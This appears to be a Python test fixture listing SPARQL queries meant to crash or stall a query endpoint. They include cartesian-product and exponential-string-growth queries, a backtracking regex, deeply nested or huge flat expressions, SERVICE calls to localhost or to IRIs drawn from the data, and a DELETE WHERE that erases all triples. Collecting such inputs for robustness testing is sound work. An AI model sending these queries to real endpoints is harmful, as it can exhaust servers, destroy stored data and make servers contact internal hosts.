"""Queries that have taken a peer down, or would: each is valid, or nearly, and small."""

_CONCAT = "BIND(CONCAT(?x0, ?x0) AS ?x1) " + " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(1, 34))
_REPLACE = " ".join(f'BIND(REPLACE(?x{n}, ".", "$0$0$0$0$0$0$0$0$0$0") AS ?x{n + 1})' for n in range(9))

_FIFTY = " ".join(map(str, range(50)))

ATTACKS = {
    "cartesian order": "SELECT * { ?a ?b ?c . ?d ?e ?f } ORDER BY ?c LIMIT 1",
    "cartesian count": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "cartesian distinct": "SELECT (COUNT(DISTINCT *) AS ?n) { ?a ?b ?c . ?d ?e ?f }",
    "cartesian rows": "SELECT * { ?a ?b ?c . ?d ?e ?f }",
    "cartesian group": "SELECT ?a ?d (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f } GROUP BY ?a ?b ?c ?d ?e ?f",
    "cartesian minus": "SELECT * { ?a ?b ?c . ?d ?e ?f MINUS { ?g ?h ?c . ?d ?i ?j } } LIMIT 1",
    "group concat": 'SELECT (GROUP_CONCAT(?c; separator="") AS ?t) { ?a ?b ?c . ?d ?e ?f }',
    "concat doubling": f'SELECT (STRLEN(?x34) AS ?n) {{ BIND("aaaaaaaa" AS ?x0) {_CONCAT} }}',
    "replace growing": f'SELECT (STRLEN(?x9) AS ?n) {{ BIND("aaaaaaaa" AS ?x0) {_REPLACE} }}',
    "regex": "SELECT * { ?s ?p ?o FILTER(REGEX(STR(?o), '((((a{0,50}){0,50}){0,50}){0,5})')) }",
    "path all pairs": "SELECT (COUNT(*) AS ?n) { ?a (!<x:y>|^!<x:y>)* ?b }",
    "path chain": "SELECT * { ?a (" + "/".join(["!<x:y>"] * 100) + ") ?b }",
    "uuid order": "SELECT (STRUUID() AS ?u) { ?a ?b ?c . ?d ?e ?f } ORDER BY ?u",
    "values product": "SELECT (COUNT(*) AS ?n) { " + " ".join(f"VALUES ?v{n} {{ {_FIFTY} }}" for n in range(12)) + " }",
    "construct product": "CONSTRUCT { ?a ?e ?f . ?d ?b ?c } { ?a ?b ?c . ?d ?e ?f }",
    "describe all": "DESCRIBE * { ?a ?b ?c . ?d ?e ?f }",
    "nested lists": "ASK { ?s ?p " + "(" * 200 + ")" * 200 + " }",
    "nested blank nodes": "ASK { " + "[ ?p " * 160 + "1" + " ]" * 160 + " }",
    "nested calls": "ASK { FILTER(" + "STR(" * 950 + "1" + ")" * 950 + ") }",
    "nested more calls": "ASK { FILTER(" + "STR(" * 12_000 + "1" + ")" * 12_000 + ") }",
    "nested groups": "ASK { " + "{" * 15_000 + "}" * 15_000 + " }",
    "nested exists": "ASK " + "{ FILTER EXISTS " * 2_000 + "{}" + " }" * 2_000,
    "flat optionals": "SELECT * { " + " ".join(f"OPTIONAL {{ ?a{n} ?b{n} ?c{n} }}" for n in range(600)) + " }",
    "flat patterns": "SELECT * { " + " ".join(f"?a{n} ?b{n} ?a{n + 1} ." for n in range(2_000)) + " }",
    "flat and": "ASK { FILTER(" + "&&".join(["1"] * 15_000) + ") }",
    "flat or": "ASK { ?a ?b ?c FILTER(" + "||".join(f"?a={n}" for n in range(7_000)) + ") }",
    "flat plus": "ASK { FILTER(" + "+".join(["1"] * 20_000) + ") }",
    "flat union": "SELECT * { " + " UNION ".join(["{ ?a ?b ?c }"] * 2_000) + " }",
    "flat not": "ASK { FILTER(" + "!" * 50_000 + "1) }",
    "service": "SELECT * { SERVICE <http://127.0.0.1:9/> { ?s ?p ?o } }",
    "service per row": "SELECT * { ?s ?p ?o FILTER EXISTS { SeRvIcE SILENT ?o { ?a ?b ?c } } }",
    "update": "DELETE WHERE { ?s ?p ?o }",
    "unfinished": "SELECT * { ?s ?p",
    "no query": "\x00\x01\x02",
}
